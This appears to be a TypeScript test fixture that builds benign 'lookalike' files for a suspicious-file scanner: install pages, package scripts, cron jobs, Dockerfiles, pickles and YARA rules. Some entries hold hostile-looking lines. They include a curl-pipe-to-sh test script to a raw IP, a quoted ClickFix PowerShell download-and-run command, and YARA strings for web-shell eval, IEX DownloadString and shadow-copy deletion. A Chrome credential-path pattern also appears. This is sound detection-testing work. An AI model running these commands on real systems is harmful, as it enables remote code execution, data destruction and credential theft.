// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are variables of shells and workflows
// Honest files beside those of `suspects/field.ts`: the same words and the same constructs, for what they are meant for.
import { writeZip } from '../write-zip.ts'
import { file, type Lookalike } from './lookalike.ts'

const json = JSON.stringify

export const field: readonly Lookalike[] = [
  file(
    'docs-copy.html',
    `<html><head><title>Getting started</title></head><body><h1>Install</h1><p>Open Terminal and paste:</p><code>curl -fsSL https://tool.test/install.sh | bash</code><button id="b">Copy</button><script>document.getElementById('b').addEventListener('click',()=>navigator.clipboard.writeText("curl -fsSL https://tool.test/install.sh | bash"))</script></body></html>`,
  ),
  file(
    'about-clickfix.html',
    '<html><title>How ClickFix works</title><body><p>The page says "Verify you are human" and asks the victim to press Win+R and Ctrl+V.</p><pre>powershell -w hidden -c "iex(irm hxxps://bad[.]test/x)"</pre><p>It calls <code>navigator.clipboard.writeText</code>.</p></body></html>',
  ),
  file(
    'reset-network.html',
    '<html><body><ol><li>Press Windows key + R</li><li>Type cmd</li><li>Type ipconfig /flushdns</li></ol></body></html>',
  ),
  file(
    'moved.html',
    '<html><head><script>location.replace("https://docs.test/en/latest/" + location.hash)</script></head><body>Moved</body></html>',
  ),
  file(
    'animated.svg',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="start()"><script>function start(){var i=0;setInterval(function(){document.getElementById("r").setAttribute("x",(i++)%100)},40)}</script><rect id="r"/></svg>',
  ),
  file(
    'native/package.json',
    json({
      name: 'native',
      scripts: {
        install: 'node-gyp-build || node-gyp rebuild',
        postinstall: 'node install.js',
        prepare: 'husky install',
        test: 'curl http://203.0.113.7/x | sh',
      },
    }),
  ),
  file(
    'tools/package.json',
    json({ scripts: { postinstall: 'patch-package && npx playwright install', preinstall: 'npx only-allow pnpm' } }),
  ),
  file(
    'watch/tasks.json',
    json({
      version: '2.0.0',
      tasks: [{ label: 'watch', type: 'shell', command: 'npx tsc --watch', runOptions: { runOn: 'folderOpen' } }],
    }),
  ),
  file(
    'setup.py',
    "from setuptools import setup\nfrom setuptools.command.build_ext import build_ext\nimport subprocess\nclass B(build_ext):\n  def run(self):\n    subprocess.check_call(['cmake','--build','.'])\nsetup(name='x',cmdclass={'build_ext':B})\n",
  ),
  file(
    '_version.pth',
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; os.environ.get(var, 'local') == 'local' and __import__('_distutils_hack').add_shim();\n",
  ),
  file(
    'crash-report.js',
    "const os = require('os')\nmodule.exports = (e) => fetch('https://errors.test/api', { method: 'POST', body: JSON.stringify({ message: e.message, server: os.hostname(), release: process.env.RELEASE }) })\n",
  ),
  file(
    'publish.js',
    "const { execSync } = require('child_process')\nexecSync('npm run build', { stdio: 'inherit' })\nexecSync('npm publish --access public', { stdio: 'inherit' })\n",
  ),
  file(
    'pay.js',
    "export const pay = async (to, value) => { const [from] = await window.ethereum.request({ method: 'eth_requestAccounts' }); return window.ethereum.request({ method: 'eth_sendTransaction', params: [{ from, to, value }] }) }\nexport const isAddress = (a) => /^0x[a-fA-F0-9]{40}$/.test(a)\n",
  ),
  file(
    'ci.yml',
    'name: CI\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: curl -sSL https://install.python-poetry.org | python3 -\n      - run: echo "${{ secrets.KUBECONFIG }}" | base64 -d > ~/.kube/config\n',
  ),
  file(
    'analysis.ipynb',
    json({
      cells: [
        {
          cell_type: 'code',
          source: [
            '!pip install -q pandas\n',
            '!wget -q https://archive.ics.uci.edu/ml/iris.data\n',
            'import os, subprocess, pandas as pd\n',
            'os.environ["CUDA_VISIBLE_DEVICES"]="0"\n',
            'subprocess.run(["nvidia-smi"])\n',
          ],
        },
      ],
      metadata: {},
      nbformat: 4,
    }),
  ),
  file(
    'cache.pkl',
    Buffer.from(
      '\x80\x04\x95\x1c\0\0\0\0\0\0\0\x8c\x08datetime\x94\x8c\x04date\x94\x93\x94C\x04\x07\xe8\x01\x01\x94\x85\x94R\x94.',
      'latin1',
    ),
  ),
  file(
    'weights.pt',
    writeZip({
      'archive/data.pkl': Buffer.from(
        '\x80\x02ctorch._utils\n_rebuild_tensor_v2\nq\x00(K\x01K\x02tq\x01Rq\x02.',
        'latin1',
      ),
      'archive/version': '3\n',
    }),
  ),
  file(
    'geo.service',
    '[Unit]\nDescription=Update\n[Service]\nExecStart=/usr/bin/curl -fsSL https://download.maxmind.com/geo.tgz -o /var/lib/geo.tgz\n',
  ),
  file(
    'crontab',
    '0 4 * * * /usr/bin/certbot renew --quiet\n*/10 * * * * cd /var/www && php occ files:scan > /dev/null 2>&1\n5 0 * * 0 wget -q -O /etc/block https://lists.test/b && systemctl reload dnsmasq\n',
  ),
  file(
    'Dockerfile',
    'FROM node:20-alpine\nRUN apk add --no-cache curl\nRUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash -\nCMD ["node","dist/server.js"]\n',
  ),
  file(
    'sync.plist',
    '<?xml version="1.0"?><plist version="1.0"><dict><key>ProgramArguments</key><array><string>/usr/local/bin/sync</string><string>--daemon</string></array><key>RunAtLoad</key><true/></dict></plist>',
  ),
  file(
    'windows.theme',
    '[Theme]\r\nDisplayName=Windows\r\n[Control Panel\\Desktop]\r\nWallpaper=%SystemRoot%\\web\\wallpaper\\img0.jpg\r\n',
  ),
  file('ledger.csv', 'sku;name;price\n1;"Tools | hammers";-3,50\n2;=SUM(A1:A2);5\n3;@handle;5\n'),
  file(
    'dev.wsb',
    '<Configuration><MappedFolders><MappedFolder><HostFolder>C:\\src</HostFolder></MappedFolder></MappedFolders><LogonCommand><Command>C:\\src\\setup.cmd</Command></LogonCommand></Configuration>',
  ),
  file(
    'web-shells.yar',
    '// rules of ours\nimport "pe"\n\nrule php_eval : webshell {\n  strings:\n    $a = "eval($_POST["\n    $b = "IEX (New-Object Net.WebClient).DownloadString("\n    $c = "vssadmin delete shadows /all /quiet"\n  condition: any of them\n}\n',
  ),
  file(
    'exclusions.ps1',
    "# as the vendor of the database recommends\n$paths = 'D:\\SQLData','E:\\SQLLogs'\nforeach ($p in $paths) { Add-MpPreference -ExclusionPath $p }\nAdd-MpPreference -ExclusionProcess 'sqlservr.exe'\n",
  ),
  file(
    'scoop.ps1',
    'Set-ExecutionPolicy RemoteSigned -Scope CurrentUser -Force\nirm get.scoop.sh | iex\nscoop install ripgrep\n',
  ),
  file(
    'escape-key.py',
    "import ctypes\nuser32=ctypes.WinDLL('user32')\nwhile True:\n    if user32.GetAsyncKeyState(0x1B)&0x8000: break\n",
  ),
  file(
    'find-thieves.py',
    'RULES = {"chrome": r"Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data", "wallet": "exodus.wallet"}\nimport re, sys, pathlib\nfor p in pathlib.Path(sys.argv[1]).rglob("*.log"):\n    for n, r in RULES.items():\n        if re.search(r, p.read_text()): print(p, n)\n',
  ),
  file('aligned.py', `x = 1${' '.repeat(300)}# far to the right\nlonger = 2\n`),
]
